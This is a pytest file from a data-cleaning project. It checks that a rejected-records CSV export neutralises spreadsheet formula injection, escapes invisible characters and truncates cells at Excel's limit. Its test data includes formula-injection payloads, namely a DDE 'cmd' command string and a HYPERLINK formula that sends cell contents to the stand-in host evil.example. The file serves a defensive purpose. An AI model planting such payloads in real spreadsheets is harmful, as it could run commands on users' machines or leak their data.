"""rejected.csv is safe to open in Excel, WPS or LibreOffice: no formula, no invisible
characters, no cell over Excel's 32,767 characters; read back with the csv module."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pyarrow as pa
import pytest

from datacloud.config import Department, load_department
from datacloud.paths import DEPARTMENTS_DIR
from datacloud.report import CSV_HEADER, _write_rejected_csv

EXCEL_MAX = 32_767


@pytest.fixture(scope="module")
def gongan() -> Department:
    return load_department(DEPARTMENTS_DIR / "gongan.yaml")


def _issues(raw_values: list[str | None], pks: list[str] | None = None) -> pa.Table:
    n = len(raw_values)
    return pa.table(
        {
            "source_pk": pks or [f"RK{i}" for i in range(n)],
            "field": ["name"] * n,
            "source_column": ["xm"] * n,
            "raw_value": pa.array(raw_values, pa.string()),
            "rule_code": ["NAME_CHARS"] * n,
            "severity": ["reject"] * n,
        }
    )


def _write(dept: Department, issues: pa.Table, tmp: Path) -> tuple[int, list[list[str]], bytes]:
    path = tmp / "rejected.csv"
    lines = _write_rejected_csv(dept, {"czrk": issues}, path)
    data = path.read_bytes()
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == CSV_HEADER
    return lines, rows[1:], data


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "  =1+1",  # leading spaces are looked through
    "\u3000=1+1",
    "＝1+1",  # full-width: NFKC and Chinese input methods make them formula starts
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def test_formula_starts_get_a_leading_apostrophe(gongan: Department, tmp_path: Path) -> None:
    harmless = ["张三", "a=b", "1+1", "O'Brien", "", None]
    lines, rows, _ = _write(gongan, _issues(FORMULAS + harmless), tmp_path)
    assert lines == len(rows) == len(FORMULAS) + len(harmless)
    cells = [r[3] for r in rows]
    assert cells[: len(FORMULAS)] == ["'" + v for v in FORMULAS]
    assert cells[len(FORMULAS) :] == ["张三", "a=b", "1+1", "O'Brien", "", ""]


def test_every_column_is_neutralised_not_only_the_raw_value(
    gongan: Department, tmp_path: Path
) -> None:
    issues = _issues(["x"]).set_column(2, "source_column", pa.array(["=1+1"]))
    _, rows, _ = _write(gongan, issues, tmp_path)
    assert rows[0][2] == "'=1+1"
    assert rows[0][0] == "czrk:RK0"  # the source key cell starts with the table name


def test_invisible_characters_are_shown_escaped(gongan: Department, tmp_path: Path) -> None:
    values = [
        "张\x00三",
        "张\u202e三",
        "\ufeff张三",
        "张\u200b三",
        "a\x1bb",
        "a\x85b",
        "第一行\n第二行",
    ]
    _, rows, data = _write(gongan, _issues(values), tmp_path)
    assert [r[3] for r in rows] == [
        "张\\x00三",
        "张\\u202e三",
        "\\ufeff张三",
        "张\\u200b三",
        "a\\x1bb",
        "a\\x85b",
        "第一行\n第二行",  # a line break is quoted by the csv module, not escaped
    ]
    assert b"\x00" not in data and "\u202e".encode() not in data
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, as before
    assert data.count(b"\xef\xbb\xbf") == 1  # the value's BOM was escaped


def test_long_cells_are_cut_at_excels_limit_with_a_marker(
    gongan: Department, tmp_path: Path
) -> None:
    ten_mb = 10 * 1024 * 1024
    values = [
        "张" * ten_mb,
        "=" + "A" * EXCEL_MAX,  # apostrophe and marker both inside the cap
        "𠮷" * 20_000,  # outside the BMP: two UTF-16 code units each, as Excel counts
        "a" * EXCEL_MAX,  # exactly the limit: kept whole
    ]
    _, rows, _ = _write(gongan, _issues(values), tmp_path)
    cells = [r[3] for r in rows]
    for cell in cells:
        assert len(cell.encode("utf-16-le")) // 2 <= EXCEL_MAX
    assert cells[0].endswith(f"…[截断 truncated, {ten_mb} chars]")
    assert cells[0].startswith("张张张")
    assert len(cells[0].encode("utf-16-le")) // 2 == EXCEL_MAX
    assert cells[1].startswith("'=AAA") and cells[1].endswith(
        f"…[截断 truncated, {EXCEL_MAX + 1} chars]"
    )
    assert cells[2].endswith("…[截断 truncated, 20000 chars]")
    assert "\ufffd" not in cells[2]  # no half of a surrogate pair at the cut
    assert cells[3] == "a" * EXCEL_MAX


@pytest.mark.skipif(
    not (shutil.which("libreoffice") or shutil.which("soffice")),
    reason="LibreOffice is not installed here: the spreadsheet check is skipped",
)
def test_libreoffice_shows_text_not_formula_results(gongan: Department, tmp_path: Path) -> None:
    exe = shutil.which("libreoffice") or shutil.which("soffice")
    assert exe is not None
    _write(gongan, _issues(["=1+1", "@SUM(1,1)", "+1+1"]), tmp_path)
    subprocess.run(
        [
            exe,
            "--headless",
            "--convert-to",
            "html",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "rejected.csv"),
        ],
        check=True,
        timeout=120,
        capture_output=True,
    )
    html = (tmp_path / "rejected.html").read_text(encoding="utf-8", errors="replace")
    assert "=1+1" in html and ">2<" not in html
